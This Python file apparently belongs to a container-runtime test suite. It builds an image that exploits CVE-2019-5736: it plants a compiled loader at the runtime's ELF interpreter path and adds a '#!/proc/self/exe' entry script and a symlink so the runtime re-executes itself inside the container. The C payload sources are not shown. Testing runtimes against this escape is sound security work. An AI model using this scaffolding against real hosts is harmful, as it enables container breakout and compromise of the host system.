"""G1: an image that attacks the runtime's executable through /proc/self/exe (CVE-2019-5736)."""

from __future__ import annotations

import os
import struct
import subprocess
from pathlib import Path

HERE = Path(__file__).parent
ENTRIES = {
    "interpreter": "/entry",  # a script: #!/proc/self/exe
    "itself": "/proc/self/exe",
    "link": "/link",  # -> /proc/self/exe
}
"""Ways to make the kernel execute the runtime inside the container: name and program to start."""


def plant(rootfs: Path, executable: Path) -> None:
    """Put the attack on ``executable`` into the root filesystem."""
    loader = rootfs / elf_interpreter(executable).lstrip("/")
    loader.parent.mkdir(parents=True, exist_ok=True)
    flags = ["-O2", "-nostdlib", "-static-pie", "-fPIE", "-ffreestanding", "-fno-stack-protector"]
    _compile("loader.c", loader, *flags)
    _compile("handle.c", rootfs / "handle", "-O1", "-static")
    (rootfs / "entry").write_text("#!/proc/self/exe\n")
    (rootfs / "entry").chmod(0o755)
    os.symlink("/proc/self/exe", rootfs / "link")
    for name in ("mnt", "proc"):
        (rootfs / name).mkdir(exist_ok=True)


def elf_interpreter(executable: Path) -> str:
    """The path in the program header PT_INTERP of a 64-bit ELF file, whatever links lead there."""
    image = executable.read_bytes()
    (offset,) = struct.unpack_from("<Q", image, 32)
    size, count = struct.unpack_from("<HH", image, 54)
    for index in range(count):
        kind, _, start, _, _, length = struct.unpack_from("<IIQQQQ", image, offset + index * size)
        if kind == 3:
            return image[start : start + length].rstrip(b"\0").decode()
    raise ValueError(f"{executable} has no dynamic loader")


def _compile(source: str, target: Path, *flags: str) -> None:
    subprocess.run(["gcc", *flags, "-o", str(target), str(HERE / source)], check=True)
